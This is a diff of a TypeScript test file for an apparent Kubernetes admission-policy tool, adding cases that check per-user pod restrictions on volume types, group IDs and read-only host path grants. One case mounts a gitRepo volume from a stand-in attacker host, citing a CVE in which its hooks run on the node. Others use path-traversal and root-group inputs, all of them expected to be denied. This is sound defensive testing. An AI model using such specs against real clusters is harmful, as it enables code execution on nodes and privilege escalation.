@@ -83,6 +83,30 @@ const cases: { name: string; kind?: string; spec: Record<string, unknown>; allow
   { name: 'hostNetwork is denied', spec: podSpec('/home/ray', (s) => (s.hostNetwork = true)), allowed: false },
   { name: 'running as root is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 0 })), allowed: false },
   { name: 'a container running as another uid is denied', spec: podSpec('/home/ray', (s) => (s.containers = [container({ securityContext: { allowPrivilegeEscalation: false, runAsUser: 0 } })])), allowed: false },
+  // Session 6 permissions probe: what the user's PSP refused and no per-user policy checked.
+  { name: 'a gitRepo volume is denied (its hooks run on the node: CVE-2024-10220)', spec: podSpec('/home/ray', (s) => (s.volumes as unknown[]).push({ name: 'g', gitRepo: { repository: 'https://attacker.example/x.git' } })), allowed: false },
+  { name: 'an nfs volume is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'n', nfs: { server: 'headnode', path: '/' } }])), allowed: false },
+  { name: 'an inline csi volume is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'c', csi: { driver: 'x.example.com' } }])), allowed: false },
+  { name: 'a flexVolume is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'f', flexVolume: { driver: 'x/y' } }])), allowed: false },
+  { name: 'a downwardAPI volume is denied (not in the PSP either)', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'd', downwardAPI: { items: [] } }])), allowed: false },
+  {
+    name: 'the service-account token volume the API server adds is allowed',
+    spec: podSpec('/home/ray', (s) =>
+      (s.volumes as unknown[]).push({
+        name: 'kube-api-access-abcde',
+        projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 3607 } }, { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } }, { downwardAPI: { items: [{ path: 'namespace', fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.namespace' } }] } }] },
+      }),
+    ),
+    allowed: true,
+  },
+  { name: 'configMap, secret, emptyDir and persistentVolumeClaim volumes are allowed', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'a', configMap: { name: 'x' } }, { name: 'b', secret: { secretName: 'x' } }, { name: 'c', emptyDir: {} }, { name: 'd', persistentVolumeClaim: { claimName: 'x' } }])), allowed: true },
+  { name: 'fsGroup 0 is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, fsGroup: 0 })), allowed: false },
+  { name: 'a supplemental group 0 is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, supplementalGroups: [1001, 0] })), allowed: false },
+  { name: "another user's gid as supplemental group is denied", spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, supplementalGroups: [1002] })), allowed: false },
+  { name: 'runAsGroup 0 on the pod is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, runAsGroup: 0 })), allowed: false },
+  { name: 'runAsGroup 0 on a container is denied', spec: podSpec('/home/ray', (s) => (s.containers = [container({ securityContext: { allowPrivilegeEscalation: false, runAsUser: 1001, runAsGroup: 0 } })])), allowed: false },
+  { name: "the user's own gid everywhere is allowed", spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, runAsGroup: 1001, fsGroup: 1001, supplementalGroups: [1001] })), allowed: true },
+  { name: 'a Deployment with fsGroup 0 is denied (autogen)', kind: 'Deployment', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, fsGroup: 0 })), allowed: false },
   { name: 'a Deployment mounting home is allowed', kind: 'Deployment', spec: podSpec('/home/ray/data'), allowed: true },
   { name: 'a DaemonSet mounting /etc is denied (autogen)', kind: 'DaemonSet', spec: podSpec('/etc'), allowed: false },
   { name: 'a StatefulSet with traversal is denied (autogen)', kind: 'StatefulSet', spec: podSpec('/home/ray/../../root'), allowed: false },
@@ -117,3 +141,47 @@ test('a pod that relied on PSP defaulting is mutated like PSP did and then admit
   assert.equal(spec.initContainers, undefined, 'no initContainers are invented');
   assert.deepEqual(out.validateResults.flatMap((r) => r.rules.filter((x) => x.status === 'fail').map((x) => x.rule)), []);
 });
+
+// A read-only grant (`readOnly: true`, as the PSP's allowedHostPaths) must be mounted read-only by every
+// container; a read-write grant that also covers the path makes it writable, as in PSP.
+const { user: bob } = parsePermissionUser({
+  apiVersion: 'podgate.io/v1',
+  kind: 'PermissionUser',
+  metadata: { name: 'bob' },
+  spec: { uid: 1002, gid: 1002, releaseId: 'bob1234', hostPaths: [{ pathPrefix: '/data/shared', readOnly: true }, { pathPrefix: '/home/bob' }, { pathPrefix: '/scratch', readOnly: true }, { pathPrefix: '/scratch/bob' }] },
+} as KubeObject);
+const bobPolicies = renderUser(bob!, { psp: false })
+  .filter((o) => o.kind === 'ClusterPolicy')
+  .map((o) => {
+    const r = loadPolicy(o);
+    assert.deepEqual(r.errors, []);
+    return compilePolicy(r.policy!);
+  });
+
+function bobPod(path: string, mounts: Record<string, unknown>[], init: Record<string, unknown>[] = []): KubeObject {
+  const c = (name: string, m: Record<string, unknown>[]) => ({ name, image: 'busybox', securityContext: { allowPrivilegeEscalation: false, runAsUser: 1002 }, volumeMounts: m });
+  const spec: Record<string, unknown> = { securityContext: { runAsUser: 1002 }, containers: [c('c', mounts)], volumes: [{ name: 'h', hostPath: { path } }] };
+  if (init.length > 0) spec.initContainers = [c('i', init)];
+  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'w', namespace: 'bob-restricted' }, spec } as KubeObject;
+}
+
+const bobDenials = (o: KubeObject) => bobPolicies.flatMap((p) => evaluatePolicy(p, o, { namespaceLabels: { 'kubernetes.io/metadata.name': 'bob-restricted' } }).rules.filter((r) => r.status === 'fail' || r.status === 'error').map((r) => `${r.rule}: ${r.message}`));
+
+const readOnlyCases: { name: string; pod: KubeObject; allowed: boolean }[] = [
+  { name: 'a read-only grant mounted read-only is allowed', pod: bobPod('/data/shared', [{ name: 'h', mountPath: '/s', readOnly: true }]), allowed: true },
+  { name: 'a read-only grant mounted without readOnly is denied', pod: bobPod('/data/shared', [{ name: 'h', mountPath: '/s' }]), allowed: false },
+  { name: 'a read-only grant mounted readOnly: false is denied', pod: bobPod('/data/shared/x', [{ name: 'h', mountPath: '/s', readOnly: false }]), allowed: false },
+  { name: 'a read-only grant mounted read-write by an initContainer is denied', pod: bobPod('/data/shared', [{ name: 'h', mountPath: '/s', readOnly: true }], [{ name: 'h', mountPath: '/s' }]), allowed: false },
+  { name: 'a traversal into a read-only grant is still read-only', pod: bobPod('/home/bob/../../data/shared', [{ name: 'h', mountPath: '/s' }]), allowed: false },
+  { name: 'the read-write home grant is writable', pod: bobPod('/home/bob', [{ name: 'h', mountPath: '/s' }]), allowed: true },
+  { name: 'a read-write grant inside a read-only one is writable (as in PSP)', pod: bobPod('/scratch/bob/run', [{ name: 'h', mountPath: '/s' }]), allowed: true },
+  { name: 'the read-only parent of a read-write grant is read-only', pod: bobPod('/scratch', [{ name: 'h', mountPath: '/s' }]), allowed: false },
+];
+
+for (const c of readOnlyCases) {
+  test(c.name, () => {
+    const d = bobDenials(c.pod);
+    if (c.allowed) assert.deepEqual(d, []);
+    else assert.notDeepEqual(d, [], 'expected a denial');
+  });
+}
